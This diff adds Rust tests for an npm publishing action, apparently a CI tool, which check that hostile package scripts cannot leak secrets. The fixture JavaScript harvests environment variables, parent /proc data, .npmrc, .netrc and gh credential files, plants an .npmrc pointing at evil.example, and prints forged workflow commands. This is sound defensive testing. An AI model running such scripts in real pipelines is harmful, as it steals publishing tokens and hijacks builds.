@@ -1,0 +1,113 @@
+//! A package whose every script attacks the job that publishes it. It gains nothing, also where the risk of one job was accepted.
+
+use std::fs;
+use std::path::Path;
+
+use serde_json::{Value, json};
+
+use crate::canary;
+use crate::leaks::secrets_of;
+use crate::releases::at;
+use crate::runner::Runner;
+use crate::stage::town::Town;
+
+#[test]
+fn scripts_that_look_for_secrets_find_none_and_command_nobody() {
+    let town = Town::start();
+    let runner = at(&town, Runner::new())
+        .with("ACTIONS_ID_TOKEN_REQUEST_TOKEN", REQUEST_TOKEN)
+        .with("ACTIONS_ID_TOKEN_REQUEST_URL", "http://127.0.0.1:9/token")
+        .input("single-job", "i-accept-the-risk");
+    write_package(&runner.workspace());
+    let step = runner.step(&[]).exits(0);
+
+    let secrets = [secrets_of(&town), vec![REQUEST_TOKEN.to_owned()]].concat();
+    let loot = fs::read(runner.workspace().join("loot.log")).unwrap();
+    let text = String::from_utf8_lossy(&loot);
+    for script in SCRIPTS {
+        assert!(text.contains(&format!("script {script}\n")), "{script} did not run");
+    }
+    assert!(text.contains("parents read: "), "{text}");
+    assert_eq!(canary::find(&secrets, &loot), Vec::<String>::new());
+    assert!(text.contains("request token: none") && !text.contains("request token: some"));
+
+    // Nothing that a script printed was carried out; all of it is there to be read.
+    let ours = ["add-mask", "group", "endgroup", "stop-commands"];
+    for said in &step.commands {
+        assert!(ours.contains(&said.name.as_str()), "{said:?}");
+        assert!(said.name != "add-mask" || said.data != "e", "{said:?}");
+    }
+    assert!(step.log.contains("set-env name=PWNED"), "{}", step.log);
+    assert_eq!(step.outputs["name"], "hostile");
+    assert!(!step.outputs.contains_key("pwned"));
+
+    // The .npmrc that it planted led nobody astray.
+    let dist = &town.packument("hostile")["versions"]["1.2.3"]["dist"];
+    assert_eq!(dist["integrity"], step.outputs["integrity"]);
+}
+
+#[test]
+fn a_manifest_that_a_script_rewrites_to_another_registry_is_refused() {
+    let town = Town::start();
+    let runner = at(&town, Runner::new());
+    let manifest = json!({ "name": "hostile", "version": "1.2.3", "scripts": {
+        "prepack": "node -e \"const p=require('./package.json');p.publishConfig={registry:'https://evil.example/'};require('fs').writeFileSync('package.json',JSON.stringify(p))\"",
+    }});
+    fs::write(runner.workspace().join("package.json"), manifest.to_string()).unwrap();
+    let step = runner.step(&[("package_path", ".")]).exits(2);
+    assert_eq!(
+        step.error().properties["title"],
+        "certified-publish: build/other-registry"
+    );
+    assert!(town.events().is_empty());
+}
+
+fn write_package(folder: &Path) {
+    let scripts: serde_json::Map<String, Value> = SCRIPTS
+        .iter()
+        .map(|script| ((*script).to_owned(), json!(format!("node attack.js {script}"))))
+        .collect();
+    let manifest = json!({ "name": "hostile", "version": "1.2.3", "files": ["index.js"], "scripts": scripts });
+    fs::write(folder.join("package.json"), manifest.to_string()).unwrap();
+    fs::write(folder.join("index.js"), "module.exports = 1;\n").unwrap();
+    fs::write(folder.join("attack.js"), ATTACK).unwrap();
+}
+
+const SCRIPTS: [&str; 5] = ["test", "build", "prepublishOnly", "prepack", "prepare"];
+const REQUEST_TOKEN: &str = "canary-of-the-request-4mQ9x";
+
+/// Everything that a script of the same user can read without breaking into memory; and what it would like to say to the runner.
+const ATTACK: &str = r#"
+const fs = require('fs');
+const loot = (text) => fs.appendFileSync('loot.log', text + '\n');
+loot('script ' + process.argv[2]);
+loot(JSON.stringify(process.env) + process.argv.join(' '));
+let pid = process.ppid, read = 0;
+let token = process.env.ACTIONS_ID_TOKEN_REQUEST_TOKEN;
+while (pid > 1) {
+  for (const file of ['environ', 'cmdline']) {
+    try {
+      const text = fs.readFileSync(`/proc/${pid}/${file}`, 'latin1');
+      loot(`${pid} ${file} ${text}`);
+      read += 1;
+      token = token || (/ACTIONS_ID_TOKEN_REQUEST_TOKEN=([^\0]+)/.exec(text) || [])[1];
+    } catch (error) { loot(`${pid} ${file} ${error.code}`); }
+  }
+  try { pid = Number(/PPid:\s+(\d+)/.exec(fs.readFileSync(`/proc/${pid}/status`, 'latin1'))[1]); } catch { pid = 1; }
+}
+loot('parents read: ' + read);
+loot('request token: ' + (token ? 'some' : 'none'));
+for (const home of [process.env.HOME, '.']) for (const file of ['.npmrc', '.netrc', '.config/gh/hosts.yml']) {
+  try { loot(fs.readFileSync(`${home}/${file}`, 'latin1')); } catch {}
+}
+fs.writeFileSync('.npmrc', 'registry=https://evil.example/\n//evil.example/:_authToken=${NPM_TOKEN}\nignore-scripts=true\n');
+const commands = ['set-env name=PWNED::1', 'set-output name=pwned::1', 'add-path::/tmp/evil', 'add-mask::e', 'save-state name=a::b',
+  'error::forged', 'warning::forged', 'notice::forged', 'debug::x', 'echo::on', 'group::x', 'endgroup::', 'add-matcher::/tmp/m.json',
+  'remove-matcher owner=x::', 'stop-commands::x', 'internal-set-repo-path repoFullName=a/b::c'];
+for (const command of commands) {
+  console.log('::' + command);
+  console.error('  ::' + command);
+  console.log('##[' + command.replace('::', ']'));
+  process.stdout.write('progress\r::' + command + '\n');
+}
+"#;
